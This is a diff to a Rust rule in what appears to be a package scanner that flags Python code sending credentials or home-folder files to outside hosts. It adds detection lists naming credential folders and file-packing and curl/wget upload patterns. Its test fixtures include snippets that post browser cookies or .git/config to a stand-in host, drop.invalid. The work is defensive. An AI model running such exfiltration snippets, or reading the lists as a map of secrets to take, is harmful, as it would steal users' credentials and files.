@@ -2,8 +2,9 @@
 
 use portcullis_core::inspection::{Confidence, Observation, Severity};
 
-use super::sent::{FAR, command_lines, sends, spaced};
-use super::{Rule, in_context, observe_call, observe_flow};
+use super::beside::{self, BESIDE};
+use super::sent::{FAR, command_lines, hosts, is_foreign, sends, spaced, to_whom};
+use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
 use crate::python::{Analysis, Context, Flow, Label};
 
 /// The rule.
@@ -38,18 +39,47 @@ impl Rule for CredentialFilesSent {
             }
             let worst = match () {
                 () if is_login(flow) => Severity::Info,
-                () if flow.hops > FAR => Severity::Medium,
+                () if flow.hops > FAR || is_own_repository(flow) => Severity::Medium,
                 () => Severity::Critical,
             };
-            let severity = in_context(worst, flow.context);
+            let severity = match worst > Severity::Medium && goes_abroad(analysis, flow) {
+                true => even_if_asked(worst, flow.context),
+                false => in_context(worst, flow.context),
+            };
             let confidence = Confidence::of(95).in_context(flow.context);
-            let message = format!("{} sends {}", analysis.sink(flow).target, flow.what);
+            let sink = analysis.sink(flow);
+            let message = format!("{} sends {}{}", sink.target, flow.what, to_whom(sink));
             observations.push(observe_flow(
                 self,
                 (analysis, flow),
                 (severity, confidence),
                 message,
             ));
+        }
+        let personal = |flow: &&Flow| is_personal(flow) && !goes_back(analysis, flow);
+        for flow in analysis.flows.iter().filter(personal) {
+            let severity = in_context(Severity::High, flow.context);
+            let confidence = Confidence::of(90).in_context(flow.context);
+            let sink = analysis.sink(flow);
+            let message = format!("{} sends {}{}", sink.target, flow.what, to_whom(sink));
+            observations.push(observe_flow(
+                self,
+                (analysis, flow),
+                (severity, confidence),
+                message,
+            ));
+        }
+        for call in analysis.calls().filter(|call| call.context.is_unasked()) {
+            let lines = command_lines(call);
+            let message = match () {
+                () if lines.iter().any(|line| takes(line)) => "takes credentials",
+                () if lines.iter().any(|line| uploads_file(line)) => "uploads files",
+                () => continue,
+            };
+            let severity = in_context(Severity::High, call.context);
+            let confidence = Confidence::of(85).in_context(call.context);
+            let message = format!("{} starts a command that {message}", call.target);
+            observations.push(observe_call(self, call, (severity, confidence), message));
         }
         for call in analysis.calls() {
             if !command_lines(call).iter().any(|line| uploads(line)) {
@@ -60,7 +90,117 @@ impl Rule for CredentialFilesSent {
             let message = format!("{} starts a command that uploads credentials", call.target);
             observations.push(observe_call(self, call, (severity, confidence), message));
         }
+        for call in beside::held_and_sent(analysis).into_iter() {
+            let is_told = observations.iter().any(|seen| seen.rule == self.id());
+            if !is_told {
+                let severity = in_context(Severity::High, call.context);
+                let message = format!("{} sends something where secrets are read", call.target);
+                observations.push(observe_call(self, call, (severity, BESIDE), message));
+            }
+        }
     }
+}
+
+/// Whether what a service keeps for itself below the home folder goes back to the service.
+fn goes_back(analysis: &Analysis, flow: &Flow) -> bool {
+    let path = flow.what.to_ascii_lowercase();
+    let is_own = |host: &&str| {
+        let host = host.to_ascii_lowercase();
+        let mut words = path.split(|each: char| !each.is_alphanumeric());
+        words.any(|word| word.len() >= 5 && host.contains(word))
+    };
+    let hosts = hosts(analysis.sink(flow));
+    !hosts.is_empty() && hosts.iter().all(is_own)
+}
+
+/// Whether the address that a flow ends at stands in the code and is somebody else's.
+fn goes_abroad(analysis: &Analysis, flow: &Flow) -> bool {
+    let sink = analysis.sink(flow);
+    let here = &analysis.modules[flow.module];
+    let is_connection = ["ftplib.", "smtplib.", "http.client.", "socket.socket()"]
+        .iter()
+        .any(|start| sink.target.starts_with(start));
+    hosts(sink).iter().any(|host| is_foreign(host)) && !goes_back(analysis, flow)
+        || is_connection && here.calls.iter().any(beside::is_abroad)
+}
+
+/// Whether somebody's own files leave where nobody asked for anything: what is below the home folder, or
+/// whatever walking through the whole disk finds.
+fn is_personal(flow: &Flow) -> bool {
+    let is_below = ["~/", "/home/", "/Users/", "/\u{2026}"]
+        .iter()
+        .any(|start| flow.what.starts_with(start));
+    flow.label == Label::File
+        && sends(flow.kind)
+        && flow.context.is_unasked()
+        && flow.hops <= FAR
+        && is_below
+}
+
+/// Programs that read files or pack them up.
+const PACKERS: &[&str] = &[
+    " cat ",
+    " tar ",
+    " zip ",
+    " 7z ",
+    " cp ",
+    " base64 ",
+    " xxd ",
+    " type ",
+    " robocopy ",
+    " xcopy ",
+    " dd ",
+    " gzip ",
+    " strings ",
+    " head ",
+    " tail ",
+    " grep ",
+];
+
+/// Whether a command reads or packs up what holds credentials.
+fn takes(command: &str) -> bool {
+    let line = spaced(command);
+    let is_place = |part: &&str| {
+        line.contains(*part) || line.contains(&part.trim_end_matches('/').replace('/', "\\"))
+    };
+    let places = CREDENTIALS
+        .iter()
+        .filter(|part| !part.contains("netrc"))
+        .chain(FOLDERS);
+    PACKERS.iter().any(|word| line.contains(word))
+        && places.filter(|part| is_place(part)).count() > 0
+        && !line.contains("known_hosts")
+        && !line.contains("authorized_keys")
+}
+
+/// Folders of credentials, as commands name them.
+const FOLDERS: &[&str] = &[
+    "/.ssh ",
+    "/.aws ",
+    "/.gnupg ",
+    "/.kube ",
+    "/.config/gcloud",
+    "/.azure ",
+    "key4.db",
+];
+
+/// Whether a command sends a file to an address.
+fn uploads_file(command: &str) -> bool {
+    let line = spaced(command);
+    let names = |options: &[&str]| options.iter().any(|option| line.contains(option));
+    let by_curl = line.contains(" curl ")
+        && names(&[
+            " --upload-file ",
+            " -t ",
+            " -f ",
+            " --form ",
+            " --data-binary @",
+            " -d @",
+            " --data @",
+        ])
+        && (line.contains('@') || names(&[" --upload-file ", " -t "]));
+    let by_wget = line.contains(" wget ") && names(&["--post-file", "--body-file"]);
+    (by_curl || by_wget) && line.contains("://")
 }
 
 /// Files and services that exist to be logged in with.
@@ -83,6 +223,12 @@ fn is_login(flow: &Flow) -> bool {
     is_header
         && is_for_logins
         && (flow.context <= Context::Entry || flow.what.starts_with("keyring"))
+}
+
+/// Whether a program that somebody starts asks where the repository it works on comes from. What runs
+/// unasked has no repository to ask about.
+fn is_own_repository(flow: &Flow) -> bool {
+    &*flow.what == ".git/config" && !flow.context.is_unasked()
 }
 
 const UPLOADERS: &[&str] = &[
@@ -171,6 +317,10 @@ mod tests {
                 "setup.py",
                 "import browser_cookie3 as b, requests\nrequests.post('https://drop.invalid', data=str(list(b.chrome())))",
             ),
+            (
+                "demo/__init__.py",
+                "import urllib.request\nurllib.request.urlopen('https://drop.invalid', data=open('.git/config', 'rb').read())",
+            ),
         ] {
             found("NET-002", path, code);
         }
@@ -190,6 +340,10 @@ mod tests {
             (
                 "setup.py",
                 "import os\nos.system('curl -o a.tgz https://files.invalid/a.tgz')",
+            ),
+            (
+                "demo/issues.py",
+                "import configparser, urllib.request\nif __name__ == '__main__':\n    c = configparser.ConfigParser()\n    c.read('.git/config')\n    urllib.request.urlopen('https://issues.invalid/' + c.get('remote', 'url'))",
             ),
         ] {
             quiet("NET-002", path, code);
